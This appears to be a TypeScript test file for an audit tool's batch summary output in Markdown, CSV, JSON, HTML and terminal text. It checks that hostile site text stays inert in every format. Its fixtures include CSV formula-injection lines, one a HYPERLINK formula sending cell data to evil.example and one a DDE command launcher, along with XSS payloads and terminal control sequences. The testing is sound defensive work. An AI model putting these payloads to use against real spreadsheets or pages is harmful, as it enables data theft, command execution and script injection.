// The batch summary as Markdown, CSV and JSON: localised headers, one row per site, and hostile text
// that stays text in every format.
import { describe, expect, it } from 'vitest';
import { csvCell, csvTable, markdownCell } from '../../report/escape';
import type { SiteResult } from '../../cli/batch/run-batch';
import { BatchSummarySchema, batchSummary, renderSummary, summarySite } from '../../cli/batch/summary-table';
import { batchReport } from '../support/batch-reports';

const results: SiteResult[] = [
  {
    url: 'https://kauppa.example.fi/',
    ok: true,
    started: true,
    ms: 8123,
    report: batchReport('https://kauppa.example.fi/', 71, { awareness: 80, consideration: 64, conversion: 70, retention: 55, advocacy: null, foundation: 90 }),
  },
  { url: 'https://down.example.fi/', ok: false, started: true, ms: 3001, error: 'https://down.example.fi/ answered HTTP 503: there is no page to audit' },
  { url: 'https://partial.example/', ok: true, started: true, ms: 500, report: batchReport('https://partial.example/', null, { foundation: 40 }, false) },
  { url: 'https://later.example/', ok: false, started: false, ms: 0, error: 'not started: the batch was stopped' },
];

/** What a hostile page could get into a cell: an error quoting it, the address it sent the browser to. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
  'a "quoted", comma\r\nnew line',
  '<img src=x onerror=alert(1)> | pipe',
  '[click](javascript:alert(1)) ![img](http://evil.example/x.png)',
  '**bold** _em_ `code` ~~strike~~ &amp; &#60;script&#62;',
  'line one\nline two\u2028three',
  'see www.evil.example or https://evil.example or mail evil@evil.example',
  '\\| escaped pipe \\\\|',
];

describe('CSV cells', () => {
  it('quotes text, doubles quotes and leaves numbers and empty cells bare', () => {
    expect(csvCell('plain')).toBe('"plain"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(71)).toBe('71');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(NaN)).toBe('');
  });

  it.each(HOSTILE.slice(0, 8))('defuses the formula %j with a leading apostrophe', (text) => {
    const cell = csvCell(text);
    expect(cell.startsWith(`"'`)).toBe(true);
    expect(cell.slice(2, -1).replace(/""/g, '"')).toBe(text);
  });

  it('does not touch text that only contains a formula character later', () => {
    expect(csvCell('a=b')).toBe('"a=b"');
    expect(csvCell('Ei-hyvä')).toBe('"Ei-hyvä"');
  });

  it('parses back to exactly its cells, whatever they hold', () => {
    const rows = [HOSTILE, ['x', 1, null, 'y'].map((v) => (v === null ? '' : String(v)))];
    expect(parseCsv(csvTable(rows))).toEqual(rows.map((row) => row.map((cell) => (/^[\s]*[=+\-@\t\r＝]/.test(cell) ? `'${cell}` : cell))));
  });
});

describe('Markdown cells', () => {
  it.each(HOSTILE)('keeps %j on one line of one cell, with no markup and no link', (text) => {
    const cell = markdownCell(text);
    expect(cell).not.toMatch(/[\r\n\u2028\u2029]/);
    // Every pipe, angle bracket, bracket, emphasis mark, backtick, ampersand, colon and @ is escaped.
    expect(cell).not.toMatch(/(^|[^\\])(\\\\)*[|<>[\]*_`~&:@]/);
    expect(cell).not.toMatch(/www\./i);
    // Unescaping gives the text back, newlines aside.
    expect(cell.replace(/\\(.)/g, '$1')).toBe(text.replace(/[\r\n\u2028\u2029]+/g, ' ').trim());
  });

  it('leaves plain words and numbers readable', () => {
    expect(markdownCell('Oston jälkeen')).toBe('Oston jälkeen');
    expect(markdownCell(55)).toBe('55');
    expect(markdownCell(null)).toBe('');
  });
});

describe('the summary', () => {
  it('has one row per site: scores, completeness and error', () => {
    const summary = batchSummary(results, 'en');
    expect(BatchSummarySchema.safeParse(summary).success).toBe(true);
    expect(summary.sites.map((s) => [s.url, s.ok, s.overall, s.complete, s.error])).toEqual([
      ['https://kauppa.example.fi/', true, 71, true, null],
      ['https://down.example.fi/', false, null, null, 'https://down.example.fi/ answered HTTP 503: there is no page to audit'],
      ['https://partial.example/', true, null, false, null],
      ['https://later.example/', false, null, null, 'not started: the batch was stopped'],
    ]);
    expect(summary.sites[0]!.stages).toEqual({ awareness: 80, consideration: 64, conversion: 70, retention: 55, advocacy: null, foundation: 90 });
    expect(Object.values(summary.sites[1]!.stages).every((s) => s === null)).toBe(true);
  });

  it('does not trust a result that says ok without a report, and cuts long errors', () => {
    const site = summarySite({ url: 'https://x.example/', ok: true, started: true, ms: 1.6 });
    expect([site.ok, site.error, site.ms]).toEqual([false, '', 2]);
    expect(summarySite({ url: 'https://x.example/', ok: false, started: true, ms: 1, error: 'e'.repeat(5000) }).error).toHaveLength(500);
  });

  it('writes Markdown with English headers and stage names', () => {
    const md = renderSummary('md', results, 'en').split('\n');
    expect(md[0]).toBe('| Site | Overall | Awareness | Consideration | Purchase | Retention | Advocacy | Site foundation | Complete | Error |');
    expect(md[1]).toBe('|---|---|---|---|---|---|---|---|---|---|');
    expect(md[2]).toBe('| https\\://kauppa.example.fi/ | 71 | 80 | 64 | 70 | 55 |   | 90 | yes |   |');
    expect(md[4]).toBe('| https\\://partial.example/ |   |   |   |   |   |   | 40 | no |   |');
    expect(md).toHaveLength(results.length + 3);
    expect(md.at(-1)).toBe('');
  });

  it('writes Finnish headers in Finnish', () => {
    const md = renderSummary('md', results, 'fi');
    expect(md.split('\n')[0]).toBe('| Sivusto | Kokonaisuus | Tietoisuus | Harkinta | Ostopäätös | Oston jälkeen | Suosittelu | Perusta | Täydellinen | Virhe |');
    expect(md).toContain('| kyllä |');
    const csv = parseCsv(renderSummary('csv', results, 'fi'), ';');
    expect(csv[0]).toEqual(['Sivusto', 'Kokonaisuus', 'Tietoisuus', 'Harkinta', 'Ostopäätös', 'Oston jälkeen', 'Suosittelu', 'Perusta', 'Täydellinen', 'Virhe']);
    expect(csv[3]![8]).toBe('ei');
  });

  it('writes CSV that reads back to the same table', () => {
    const csv = renderSummary('csv', results, 'en');
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.startsWith('\uFEFF"Site",')).toBe(true);
    const rows = parseCsv(csv);
    expect(rows).toHaveLength(results.length + 1);
    expect(rows[1]).toEqual(['https://kauppa.example.fi/', '71', '80', '64', '70', '55', '', '90', 'yes', '']);
    expect(rows[2]![9]).toBe('https://down.example.fi/ answered HTTP 503: there is no page to audit');
  });

  it('writes JSON that its schema reads back', () => {
    const json = JSON.parse(renderSummary('json', results, 'fi'));
    expect(BatchSummarySchema.parse(json)).toEqual(batchSummary(results, 'fi'));
    expect(json.locale).toBe('fi');
    expect(BatchSummarySchema.safeParse({ ...json, sites: [{ ...json.sites[0], overall: 101 }] }).success).toBe(false);
    expect(BatchSummarySchema.safeParse({ ...json, sites: [{ ...json.sites[0], stages: { awareness: 1 } }] }).success).toBe(false);
  });

  it('keeps hostile URLs and errors as text in every format', () => {
    const hostile: SiteResult[] = HOSTILE.map((text, i) => ({ url: `https://h${i}.example/${encodeURIComponent(text)}`, ok: false, started: true, ms: 1, error: text }));
    const md = renderSummary('md', hostile, 'en').trimEnd().split('\n');
    expect(md).toHaveLength(hostile.length + 2);
    for (const line of md.slice(2)) expect(line.split(/(?<!\\)(?:\\\\)*\|/).length - 2).toBe(10);
    const csv = parseCsv(renderSummary('csv', hostile, 'en'));
    expect(csv).toHaveLength(hostile.length + 1);
    for (const [i, row] of csv.slice(1).entries()) {
      expect(row).toHaveLength(10);
      expect(row[9]).toBe(/^[\s]*[=+\-@\t\r＝]/.test(HOSTILE[i]!) ? `'${HOSTILE[i]}` : HOSTILE[i]);
    }
    const json = BatchSummarySchema.parse(JSON.parse(renderSummary('json', hostile, 'en')));
    expect(json.sites.map((s) => s.error)).toEqual(HOSTILE);
  });
});

/** A strict RFC 4180 reader: quoted cells with doubled quotes, bare cells, CRLF rows. */
/** Reads CSV back (RFC 4180); a leading byte-order mark is skipped. */
function parseCsv(input: string, separator = ','): string[][] {
  const text = input.replace(/^\uFEFF/, '');
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const quote = text.indexOf('"', i);
        if (quote < 0) throw new Error('unclosed quote');
        cell += text.slice(i, quote);
        i = quote + 1;
        if (text[i] === '"') {
          cell += '"';
          i++;
        } else break;
      }
    } else {
      const end = text.slice(i).search(separator === ',' ? /,|\r\n/ : /;|\r\n/);
      cell = end < 0 ? text.slice(i) : text.slice(i, i + end);
      if (cell.includes('"')) throw new Error('quote in a bare cell');
      i += cell.length;
    }
    row.push(cell);
    if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else if (text[i] === separator) i++;
    else if (i < text.length) throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  if (row.length > 0) rows.push(row);
  return rows;
}

describe('the summary as a page (html and pdf batches)', () => {
  it('links each audited site to its report, says why the others have none, and keeps page text as text', async () => {
    const { parseHTML } = await import('linkedom');
    const { summaryHtml } = await import('../../cli/batch/summary-html');
    const hostile: SiteResult = { url: 'https://evil.example/"><script>alert(1)</script>', ok: false, started: true, ms: 1, error: '<img src=x onerror=alert(2)>' };
    const html = summaryHtml(batchSummary([...results, hostile], 'fi'), ['01-kauppa.html', null, '03-partial.html', null, null], 'Ostopolun auditointi', '1.0.0');
    const { document } = parseHTML(html);
    expect(html).toContain(`content="default-src 'none'; img-src data:; style-src 'unsafe-inline'"`);
    expect([...document.querySelectorAll('a')].map((a) => a.getAttribute('href'))).toEqual(['01-kauppa.html', '03-partial.html']);
    expect([...document.querySelectorAll('th')].map((th) => th.textContent)).toContain('Oston jälkeen');
    const rows = [...document.querySelectorAll('tbody tr')];
    expect(rows).toHaveLength(5);
    expect(rows[1]!.textContent).toContain('HTTP 503');
    expect(document.querySelectorAll('script, img, [onerror]')).toHaveLength(0);
    expect(rows[4]!.textContent).toContain('<img src=x onerror=alert(2)>');
  });
});

describe('the summary as text (terminal and --format text)', () => {
  it('lines up its columns and strips control characters from page text', async () => {
    const { summaryText } = await import('../../cli/batch/summary-table');
    const lines = summaryText(batchSummary([...results, { url: 'https://x.example/', ok: false, started: true, ms: 1, error: 'bad\u001b[31m red\u202e' }], 'en')).split('\n');
    expect(lines[0]).toMatch(/^Site +Overall +Awareness/);
    expect(lines[1]).toMatch(/^https:\/\/kauppa\.example\.fi\/ +71 +80 +64 +70 +55 +– +90 +yes/);
    expect(lines[0]!.indexOf('Overall')).toBe(lines[1]!.indexOf('71'));
    expect(lines[5]).not.toMatch(/[\u001b\u202e]/);
    expect(lines.at(-1)).toBe('');
  });
});
